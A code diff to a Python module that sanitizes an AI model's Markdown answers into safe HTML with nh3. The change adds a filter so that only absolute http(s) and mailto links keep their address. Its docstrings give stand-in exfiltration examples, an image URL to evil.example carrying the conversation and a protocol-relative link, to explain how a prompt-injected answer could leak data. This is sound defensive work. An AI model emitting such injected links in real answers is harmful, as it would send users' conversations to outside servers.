@@ -1,12 +1,14 @@
 """An answer's Markdown as HTML a page may insert as it is.
 
 markdown-it-py renders CommonMark (with tables) and leaves raw HTML in the text as text;
-nh3 (the ammonia sanitizer) then keeps only formatting tags and http(s)/mailto links, in
-case a model or a poisoned document gets anything else through. Images are not shown:
-an image URL is fetched the moment the answer is shown, so a prompt-injected answer could
-send the conversation to any server (`![](https://evil.example/?q=…)`); an image becomes
-a link named by its alt text."""
+nh3 (the ammonia sanitizer) then keeps only formatting tags and absolute http(s)/mailto
+links, in case a model or a poisoned document gets anything else through (a relative or
+protocol-relative address such as `//evil.example/x` leaves its link without an address).
+Images are not shown: an image URL is fetched the moment the answer is shown, so a
+prompt-injected answer could send the conversation to any server
+(`![](https://evil.example/?q=…)`); an image becomes a link named by its alt text."""
 
+import re
 from collections.abc import Sequence
 from typing import Any
 
@@ -37,12 +39,25 @@ _TAGS = {
 _ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}, "code": {"class"}}
 
 
+_ABSOLUTE = re.compile(r"(?:https?://[^/\\]|mailto:)", re.IGNORECASE)
+
+
+def _absolute_links_only(tag: str, attribute: str, value: str) -> str | None:
+    """A link's address only when absolute: nh3's scheme check lets relative addresses
+    through, and `//evil.example/x` is one (it leaves for another host)."""
+    if tag == "a" and attribute == "href" and not _ABSOLUTE.match(value):
+        return None
+    return value
+
+
 def answer_html(markdown: str) -> str:
-    """Safe HTML of an answer written in Markdown; links open in a new tab."""
+    """Safe HTML of an answer written in Markdown; links open in a new tab, and only
+    absolute http(s) and mailto links keep their address."""
     return nh3.clean(
         _MARKDOWN.render(markdown),
         tags=_TAGS,
         attributes=_ATTRIBUTES,
+        attribute_filter=_absolute_links_only,
         url_schemes={"http", "https", "mailto"},
         set_tag_attribute_values={"a": {"target": "_blank"}},
         link_rel="noopener noreferrer",
